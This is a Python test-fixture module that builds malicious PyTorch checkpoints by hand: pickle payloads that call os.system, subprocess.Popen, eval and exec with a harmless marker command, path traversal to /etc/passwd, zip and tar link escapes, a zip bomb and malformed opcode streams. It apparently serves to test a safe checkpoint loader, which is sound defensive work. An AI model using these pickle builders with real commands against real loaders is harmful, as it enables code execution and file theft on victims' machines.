"""Hostile checkpoints, assembled by hand: each would do harm to somebody who reads it without care.

A case is a function that gives the bytes of a file. Attacks by instructions of pickle are put into every place that a
checkpoint has; attacks on the containers (zip, stream, tar) are whole files.
"""

from __future__ import annotations

import io
import itertools
import pickle
import struct
import tarfile
import zipfile
from collections.abc import Iterator
from copy import deepcopy
from typing import Any

import torch

#: a module on the path whose import leaves a mark; its function leaves another
CANARY = "canary_of_the_corpus"

_PLACEHOLDER = "<<the hostile value>>"
_MAGIC_NUMBER, _PROTOCOL = 0x1950A86A20F9469CFC6C, 1001


# -- an assembler -----------------------------------------------------------------------------------------------------


def text(value: str) -> bytes:
    data = value.encode()
    return pickle.BINUNICODE + struct.pack("<I", len(data)) + data


def whole(value: int) -> bytes:
    data = pickle.encode_long(value)
    return pickle.LONG1 + bytes([len(data)]) + data


def name(module: str, attribute: str) -> bytes:
    return pickle.GLOBAL + f"{module}\n{attribute}\n".encode()


def group(*parts: bytes) -> bytes:
    return pickle.MARK + b"".join(parts) + pickle.TUPLE


def call(module: str, attribute: str, *arguments: bytes) -> bytes:
    return name(module, attribute) + group(*arguments) + pickle.REDUCE


def mapping(*pairs: tuple[bytes, bytes]) -> bytes:
    return pickle.EMPTY_DICT + pickle.MARK + b"".join(itertools.chain.from_iterable(pairs)) + pickle.SETITEMS


def build(target: bytes, state: bytes) -> bytes:
    return target + state + pickle.BUILD


ORDERED = call("collections", "OrderedDict")
FALSE, NONE = pickle.NEWFALSE, pickle.NONE
MARK_CALL = (CANARY, "leave_mark")


def storage(count: int, key: str = "0", kind: str = "FloatStorage", location: str = "cpu") -> bytes:
    described = group(text("storage"), name("torch", kind), text(key), text(location), whole(count))
    return described + pickle.BINPERSID


def tensor(memory: bytes, offset: int, size: tuple[int, ...], stride: tuple[int, ...], hooks: bytes = ORDERED) -> bytes:
    sizes = (group(*map(whole, numbers)) for numbers in (size, stride))
    return call("torch._utils", "_rebuild_tensor_v2", memory, whole(offset), *sizes, FALSE, hooks)


SIZE_OF_1 = call("torch", "Size", group(whole(1)))
PLAIN_TENSOR = tensor(storage(1), 0, (1,), (1,))


def parameter_with(*state: tuple[bytes, bytes]) -> bytes:
    return call("torch._utils", "_rebuild_parameter_with_state", PLAIN_TENSOR, FALSE, ORDERED, mapping(*state))


# -- values, each one attack -------------------------------------------------------------------------------------------

_command = text("touch mark_of_a_shell")

#: what pushes one value on the stack
VALUES: dict[str, bytes] = {
    # calls of what is foreign, by each instruction that calls
    "reduce_os_system": call("os", "system", _command),
    "reduce_posix_system": call("posix", "system", _command),
    "reduce_canary": call(*MARK_CALL),
    "global_canary": name(*MARK_CALL),
    "global_of_a_module_not_imported": name("antigravity", "geohash"),
    "stack_global": text("os") + text("system") + b"\x93" + group(_command) + pickle.REDUCE,
    "inst": pickle.MARK + _command + b"ios\nsystem\n",
    "obj": pickle.MARK + name("subprocess", "Popen") + _command + b"o",
    "newobj": name("subprocess", "Popen") + group(_command) + pickle.NEWOBJ,
    "newobj_ex": name("subprocess", "Popen") + group() + mapping((text("args"), _command)) + b"\x92",
    "ext1": b"\x82\x01",
    "ext2": b"\x83\x01\x00",
    "ext4": b"\x84\x01\x00\x00\x00",
    "build_of_a_foreign_class": build(name(*MARK_CALL) + group() + pickle.NEWOBJ, mapping((text("a"), NONE))),
    "eval": call("builtins", "eval", text("__import__('os').system('touch mark_of_a_shell')")),
    "exec_by_its_old_name": call("__builtin__", "exec", text("open('mark_of_exec', 'w')")),
    "getattr": call("builtins", "getattr", name("builtins", "dict"), text("__subclasses__")),
    "old_reconstructor": call("copy_reg", "_reconstructor", name("builtins", "object"), NONE, NONE),
    "partial": call("functools", "partial", name("os", "system"), _command),
    "attrgetter": call("operator", "attrgetter", text("__class__")),
    "import_module": call("importlib", "import_module", text(CANARY)),
    "load_from_bytes": call("torch.storage", "_load_from_bytes", text("x")),
    "hub_load": call("torch.hub", "load", text("evil/evil"), text("evil")),
    "a_part_of_torch_not_imported": name("torch.utils.tensorboard", "SummaryWriter"),
    "numpy_reconstruct": call("numpy.core.multiarray", "_reconstruct", name("numpy", "ndarray"), group(), text("b")),
    "dotted_name": call("torch", "nn.Module.__init__.__globals__.clear"),
    "name_without_an_end": pickle.GLOBAL + b"os" + b"a" * 5000,
    # what torch itself lets through, misused
    "encode_imports_a_codec": call("_codecs", "encode", text("x"), text("rot13")),
    "encode_imports_another_codec": call("_codecs", "encode", text("x"), text("idna")),
    "bytearray_of_a_size": call("builtins", "bytearray", whole(2**33)),
    "tensor_of_a_size": call("torch", "Tensor", whole(2**33)),
    "float_tensor_of_a_size": call("torch", "FloatTensor", whole(2**33)),
    "parameter_of_text": call("torch._utils", "_rebuild_parameter", text("x"), FALSE, ORDERED),
    "new_parameter": name("torch.nn.parameter", "Parameter") + group(text("x")) + pickle.NEWOBJ,
    "device_of_a_long_text": call("torch", "device", text("cuda:" + "9" * 1000)),
    "device_of_nonsense": call("torch", "device", text("nonsense")),
    "size_of_texts": call("torch", "Size", group(text("a"))),
    "layout_of_another_name": call("torch.serialization", "_get_layout", text("_dynamo")),
    "complex_of_text": call("builtins", "complex", text("1" * 4000)),
    "set_of_a_text": call("builtins", "set", text("a" * 4000)),
    "counter_of_a_text": call("collections", "Counter", text("a")),
    "ordered_dict_of_a_text": call("collections", "OrderedDict", text("ab")),
    "rebuild_from_type_of_os_system": call(
        "torch._tensor", "_rebuild_from_type_v2", name("os", "system"), name("torch", "Tensor"), group(_command), NONE
    ),
    "rebuild_from_type_of_set": call(
        "torch._tensor", "_rebuild_from_type_v2", name("builtins", "set"), name("torch", "Tensor"), group(), NONE
    ),
    "rebuild_from_type_of_bytearray": call(
        "torch._tensor", "_rebuild_from_type_v2",
        name("builtins", "bytearray"), name("torch", "Tensor"), group(whole(2**33)), NONE,
    ),
    "rebuild_wrapper_subclass": call(
        "torch._utils", "_rebuild_wrapper_subclass", name("torch", "Tensor"), name("torch", "float32"),
        group(whole(1)), group(whole(1)), whole(0), NONE, text("cpu"), FALSE,
    ),
    "nested_tensor_out_of_bounds": call(
        "torch._utils", "_rebuild_nested_tensor", PLAIN_TENSOR, PLAIN_TENSOR, PLAIN_TENSOR, PLAIN_TENSOR
    ),
    "quantized_beyond_its_memory": call(
        "torch._utils", "_rebuild_qtensor", storage(1), whole(0), group(whole(2**40)), group(whole(1)),
        group(name("torch", "per_tensor_affine"), whole(1), whole(0)), FALSE, ORDERED,
    ),
    "sparse_with_indices_outside": call(
        "torch._utils", "_rebuild_sparse_tensor", call("torch.serialization", "_get_layout", text("torch.sparse_coo")),
        group(tensor(storage(1, "long", "LongStorage"), 0, (1, 1), (1, 1)), PLAIN_TENSOR, SIZE_OF_1),
    ),
    "set_of_a_tensor": build(PLAIN_TENSOR, group(storage(1), whole(0), group(whole(2**40)), group(whole(1)))),
    "state_of_a_parameter": build(parameter_with(), group(FALSE, NONE, ORDERED)),
    "hooks_of_a_tensor": tensor(
        storage(1), 0, (1,), (1,),
        hooks=ORDERED + whole(0) + name("torch._utils", "_rebuild_parameter") + pickle.SETITEM,
    ),
    "class_of_a_parameter": parameter_with((text("__class__"), name("collections", "OrderedDict"))),
    "method_of_a_parameter": parameter_with((text("to"), name("builtins", "set"))),
    "items_of_an_ordered_dict": build(ORDERED, mapping((text("items"), name("builtins", "set")))),
    "setstate_of_an_ordered_dict": build(ORDERED, mapping((text("__setstate__"), name("builtins", "set")))),
    "slots_of_an_ordered_dict": build(ORDERED, group(NONE, mapping((text("get"), name("builtins", "set"))))),
    "function_as_a_value": name("torch._utils", "_rebuild_tensor_v2"),
    "class_as_a_value": name("collections", "OrderedDict"),
    # references to outside
    "persid": b"P0\n",
    "persid_of_a_module": group(text("module"), name(*MARK_CALL), text("a.py"), text("x")) + pickle.BINPERSID,
    "persid_of_a_text": text("storage") + pickle.BINPERSID,
    "persid_of_a_number": whole(0) + pickle.BINPERSID,
    "persid_too_short": group(text("storage")) + pickle.BINPERSID,
    "persid_of_a_function": group(
        text("storage"), name("collections", "OrderedDict"), text("0"), text("cpu"), whole(1)
    ) + pickle.BINPERSID,
    "storage_of_another_place": storage(1, key="../../../../etc/passwd"),
    "storage_of_an_absolute_place": storage(1, key="/etc/passwd"),
    "storage_on_no_device": tensor(storage(1, location="evil://host"), 0, (1,), (1,)),
    "storage_that_is_missing": tensor(storage(1, key="77"), 0, (1,), (1,)),
    "storage_in_two_ways": group(storage(1), storage(4, kind="CharStorage")),
    # absurd sizes
    "storage_of_2_to_60": tensor(storage(2**60), 0, (2**60,), (1,)),
    "storage_larger_than_its_record": tensor(storage(1000), 0, (1000,), (1,)),
    "storage_of_less_than_nothing": tensor(storage(-1), 0, (1,), (1,)),
    "size_beyond_the_memory": tensor(storage(1), 0, (1000,), (1,)),
    "stride_beyond_the_memory": tensor(storage(1), 0, (2,), (10**6,)),
    "offset_beyond_the_memory": tensor(storage(1), 10**6, (1,), (1,)),
    "offset_before_the_memory": tensor(storage(1), -4, (1,), (1,)),
    "stride_backwards": tensor(storage(1), 0, (1,), (-1,)),
    "size_of_2_to_60_by_stride_0": tensor(storage(1), 0, (2**60,), (0,)),
    "more_strides_than_sizes": tensor(storage(1), 0, (1,), (1, 1)),
    "sizes_that_are_texts": call(
        "torch._utils", "_rebuild_tensor_v2", storage(1), whole(0), group(text("1")), group(text("1")), FALSE, ORDERED
    ),
    "meta_tensor_of_texts": call(
        "torch._utils", "_rebuild_meta_tensor_no_storage", name("torch", "float32"), group(text("a")), group(), FALSE
    ),
    "text_of_4_gigabytes": pickle.BINUNICODE + b"\xff\xff\xff\xff" + b"a",
    "long4_of_2_gigabytes": b"\x8b\xff\xff\xff\x7f" + b"a",
    "bytes_of_2_to_60": b"\x8e" + struct.pack("<Q", 2**60) + b"a",
    "frame_of_2_to_60": b"\x95" + struct.pack("<Q", 2**60),
    # depth, circles, doubling
    "tuples_100_000_deep": pickle.EMPTY_TUPLE + pickle.TUPLE1 * 100_000,
    "lists_10_000_deep": (pickle.EMPTY_LIST) * 10_000 + pickle.APPEND * 9_999,
    "deep_tuple_as_a_key": pickle.EMPTY_DICT + pickle.EMPTY_TUPLE + pickle.TUPLE1 * 200_000 + NONE + pickle.SETITEM,
    "list_in_itself": pickle.EMPTY_LIST + b"q\xf0" + b"h\xf0" + pickle.APPEND,
    "dict_in_itself": pickle.EMPTY_DICT + b"q\xf0" + text("a") + b"h\xf0" + pickle.SETITEM,
    "doubling_80_times": pickle.EMPTY_TUPLE + (b"q\xf0h\xf0" + pickle.TUPLE2) * 80,
    # a stack that does not fit together
    "get_of_nothing": b"j\xff\xff\xff\x7f",
    "put_far_away": NONE + b"r\xff\xff\xff\xff" + b"0",
    "dup": NONE + b"2" + pickle.TUPLE2,
    "pop": NONE + b"0",
    "pop_mark": pickle.MARK + NONE + b"1",
    "tuple_without_a_mark": pickle.TUPLE + pickle.TUPLE,
    "append_to_a_dict": pickle.EMPTY_DICT + NONE + pickle.APPEND,
    "item_of_a_list": pickle.EMPTY_LIST + NONE + NONE + pickle.SETITEM,
    "item_of_a_class": name("collections", "OrderedDict") + text("update") + NONE + pickle.SETITEM,
    "key_that_has_no_hash": pickle.EMPTY_DICT + pickle.EMPTY_LIST + NONE + pickle.SETITEM,
    "reduce_of_a_list": pickle.EMPTY_LIST + pickle.EMPTY_TUPLE + pickle.REDUCE,
    "reduce_without_a_tuple": name("collections", "OrderedDict") + pickle.EMPTY_LIST + pickle.REDUCE,
    "build_of_a_list": build(pickle.EMPTY_LIST, mapping()),
    "text_that_is_no_utf_8": pickle.BINUNICODE + b"\x02\x00\x00\x00\xff\xff",
    "instruction_that_there_is_not": b"\xff",
}  # fmt: skip

#: where a checkpoint has values; ``KEY`` stands for a key instead of a value
KEY = object()
PLACES: dict[str, tuple[Any, ...]] = {
    "top": (),
    "top_entry": ("anything",),
    "top_key": (KEY,),
    "epoch": ("epoch",),
    "state_dict": ("state_dict",),
    "state_dict_value": ("state_dict", "layer.weight"),
    "state_dict_key": ("state_dict", KEY),
    "optimizer_states": ("optimizer_states",),
    "optimizer_state": ("optimizer_states", 0, "state", 0),
    "optimizer_group": ("optimizer_states", 0, "param_groups", 0, "lr"),
    "lr_schedulers": ("lr_schedulers", 0, "last_epoch"),
    "callbacks": ("callbacks",),
    "callback_state": ("callbacks", "EarlyStopping", "best_score"),
    "callback_key": ("callbacks", KEY),
    "loops": ("loops", "fit_loop", "state_dict"),
    "progress": ("loops", "progress", "epoch"),
    "logged_metric": ("loops", "callback_metrics"),
    "hyper_parameters": ("hyper_parameters",),
    "hyper_parameter": ("hyper_parameters", "width"),
    "hyper_parameter_key": ("hyper_parameters", KEY),
    "hparams_kinds": ("hparams_kinds", "width"),
    "hparams_name": ("hparams_name",),
    "hparams_type": ("hparams_type",),
    "instantiator": ("hyper_parameters", "_instantiator"),
    "class_path": ("hyper_parameters", "_class_path"),
    "datamodule": ("Data",),
    "datamodule_hyper_parameters": ("datamodule_hyper_parameters",),
    "resume": ("resume",),
    "resume_random": ("resume", "random", "python"),
    "resume_data": ("resume", "data", "train"),
    "resume_metrics": ("resume", "metrics"),
    "precision_plugin": ("Precision",),
    "version": ("pytorch-lightning_version",),
}


# -- files ------------------------------------------------------------------------------------------------------------


def entries_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {entry.filename: archive.read(entry) for entry in archive.infolist()}


def archive_of(entries: dict[str, bytes], **options: Any) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_STORED) as archive:
        for entry, content in entries.items():
            archive.writestr(entry, content, **options)
    return file.getvalue()


def saved(checkpoint: Any) -> bytes:
    file = io.BytesIO()
    torch.save(checkpoint, file)
    return file.getvalue()


def with_value(checkpoint: dict[str, Any], place: tuple[Any, ...], value: bytes) -> bytes:
    """The file of ``checkpoint`` with one value (or key) that ``value`` pushes on the stack."""
    changed: Any = deepcopy(checkpoint)
    if not place:
        changed = _PLACEHOLDER
    else:
        owner = changed
        for step in place[:-1]:
            if isinstance(owner, dict):
                owner = owner.setdefault(step, {})
            else:
                owner = owner[step]
        if place[-1] is KEY:
            owner[_PLACEHOLDER] = None
        else:
            owner[place[-1]] = _PLACEHOLDER
    entries = entries_of(saved(changed))
    for entry, content in entries.items():
        if entry.endswith("/data.pkl"):
            assert content.count(text(_PLACEHOLDER)) == 1
            entries[entry] = content.replace(text(_PLACEHOLDER), value)
    return archive_of(entries)


def with_pickle(body: bytes, **records: bytes) -> bytes:
    """An archive of ``torch.save`` around a pickle, with the memory of tensors."""
    memory = {"0": b"\0" * 4, "long": struct.pack("<q", 10**9), **records}
    return archive_of(
        {"archive/data.pkl": b"\x80\x02" + body + b".", "archive/byteorder": b"little"}
        | {f"archive/data/{key}": content for key, content in memory.items()}
        | {"archive/version": b"3\n"}
    )


def stream_of(value: bytes, keys: Any = (), magic: bytes | None = None) -> bytes:
    """A file of torch before 1.6."""
    head = [pickle.dumps(part, 2) for part in (_MAGIC_NUMBER, _PROTOCOL, {"little_endian": True})]
    if magic is not None:
        head[0] = b"\x80\x02" + magic + b"."
    return b"".join(head) + b"\x80\x02" + value + b"." + pickle.dumps(list(keys), 2)


def old_storage(count: int, part: bytes = NONE) -> bytes:
    described = group(text("storage"), name("torch", "FloatStorage"), text("0"), text("cpu"), whole(count), part)
    return described + pickle.BINPERSID


def _in_old_formats(honest: bytes) -> Iterator[tuple[str, bytes]]:
    evil = VALUES["reduce_canary"]
    yield "stream_with_a_call", stream_of(evil)
    yield "stream_with_a_call_before_the_magic_number", stream_of(NONE, magic=evil)
    yield "stream_of_another_magic_number", stream_of(NONE, magic=whole(5))
    yield "stream_that_ends_early", stream_of(mapping((text("state_dict"), mapping())))[:-8]
    yield "stream_of_2_to_40_elements", stream_of(tensor(old_storage(2**40), 0, (2**40,), (1,)), ["0"])
    yield "stream_without_its_memory", stream_of(tensor(old_storage(100), 0, (100,), (1,)), ["0"])
    yield (
        "stream_with_a_part_outside",
        stream_of(tensor(old_storage(1, group(text("1"), whole(0), whole(99))), 0, (99,), (1,)), ["0"]),
    )
    tar = io.BytesIO()
    with tarfile.open(fileobj=tar, mode="w") as archive:
        for entry in ("sys_info", "pickle", "../../escaped", "storages", "tensors"):
            content = b"\x80\x02" + evil + b"."
            information = tarfile.TarInfo(entry)
            information.size = len(content)
            archive.addfile(information, io.BytesIO(content))
        link = tarfile.TarInfo("storages")
        link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
        archive.addfile(link)
    yield "tar_with_links_and_ways_out", tar.getvalue()
    yield "pickle_of_protocol_4", pickle.dumps({"state_dict": {}}, 4)
    yield "pickle_of_protocol_2_with_a_call", b"\x80\x02" + evil + b"."
    yield "pickle_of_protocol_0_with_a_call", b"cos\nsystem\n(S'touch mark_of_a_shell'\ntR."
    yield "nothing", b""
    yield "text", b"hello, world"
    yield "page_of_a_portal", b"<!DOCTYPE html><html>please log in</html>"
    yield "gzip", b"\x1f\x8b\x08\x00" + b"\0" * 100
    yield "zeros", b"\0" * 1000
    yield "half_of_it", honest[: len(honest) // 2]


def _in_archives(honest: bytes) -> Iterator[tuple[str, bytes]]:
    entries = entries_of(honest)
    top = next(iter(entries)).partition("/")[0]
    for case, entry in {
        "way_up": f"{top}/../../escaped", "way_up_at_the_start": "../escaped", "absolute": "/tmp/escaped",
        "backslash": f"{top}\\..\\escaped", "another_folder": "other/data.pkl", "no_folder": "data.pkl",
        "a_dot": f"{top}/./data/0", "same_in_capitals": f"{top}/DATA.PKL",
    }.items():  # fmt: skip
        yield f"entry_with_{case}", archive_of({**entries, entry: b"x"})
    first_of_all = archive_of({"../escaped": b"x", **entries})
    yield "entry_with_way_up_first", first_of_all
    with_link = io.BytesIO(honest)
    with zipfile.ZipFile(with_link, "a") as archive:
        link = zipfile.ZipInfo(f"{top}/data/../link")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    yield "entry_that_is_a_link", with_link.getvalue()
    yield (
        "entry_twice",
        archive_of({**entries, f"{top}/data.pkX": VALUES["reduce_canary"]}).replace(
            f"{top}/data.pkX".encode(), f"{top}/data.pkl".encode()
        ),
    )
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        for entry, content in entries.items():
            archive.writestr(entry, content)
        archive.writestr(f"{top}/data/bomb", b"\0" * 5_000_000)
    yield "entry_that_unfolds", bomb.getvalue()
    yield "size_in_the_directory", _with_sizes(honest, 2**31)
    yield "without_its_directory", honest[: honest.rindex(b"PK\x01\x02")]
    yield "with_half_a_directory", honest[: honest.rindex(b"PK\x05\x06") - 40] + honest[honest.rindex(b"PK\x05\x06") :]
    yield "with_a_comment", honest[:-2] + b"\x05\x00hello"
    yield "with_something_behind", honest + b"PK\x05\x06" + b"\0" * 18
    yield "with_something_before", b"PK\x03\x04" + b"\0" * 60 + honest
    pickled = next(entry for entry in entries if entry.endswith("/data.pkl"))
    yield "wrong_checksum_of_the_pickle", _with_flipped(honest, entries[pickled][10:60])
    yield "without_a_pickle", archive_of({entry: content for entry, content in entries.items() if entry != pickled})
    yield "without_anything", archive_of({})
    yield "torchscript", archive_of({**entries, f"{top}/constants.pkl": b"\x80\x02" + VALUES["reduce_canary"] + b"."})
    yield "byteorder_of_nobody", archive_of({**entries, f"{top}/byteorder": b"middle"})
    yield "tensor_cut_short", archive_of({**entries, f"{top}/data/0": b"\0"})
    yield "pickle_that_is_empty", archive_of({**entries, pickled: b""})


def _with_sizes(data: bytes, size: int) -> bytes:
    """All entries claim another size, in the directory."""
    changed, place = bytearray(data), data.find(b"PK\x01\x02")
    while place >= 0:
        changed[place + 20 : place + 28] = struct.pack("<II", size, size)
        place = data.find(b"PK\x01\x02", place + 4)
    return bytes(changed)


def _with_flipped(data: bytes, part: bytes) -> bytes:
    place = data.index(part) + len(part) // 2
    return data[:place] + bytes([data[place] ^ 0x55]) + data[place + 1 :]


def cases(checkpoint: dict[str, Any]) -> Iterator[tuple[str, bytes, bool]]:
    """Name, bytes, and whether it stands for a place, which each way of loading has to look at."""
    honest = saved(checkpoint)
    for case, value in VALUES.items():
        yield f"value: {case}", with_pickle(mapping((text("state_dict"), mapping()), (text("x"), value))), False
    for place, path in PLACES.items():
        yield f"place: {place}", with_value(checkpoint, path, VALUES["reduce_canary"]), True
    for case, data in files(honest):
        yield f"file: {case}", data, False


def files(honest: bytes) -> Iterator[tuple[str, bytes]]:
    """Attacks that are a whole file, some of them made from an honest one."""
    return itertools.chain(_in_archives(honest), _in_old_formats(honest))
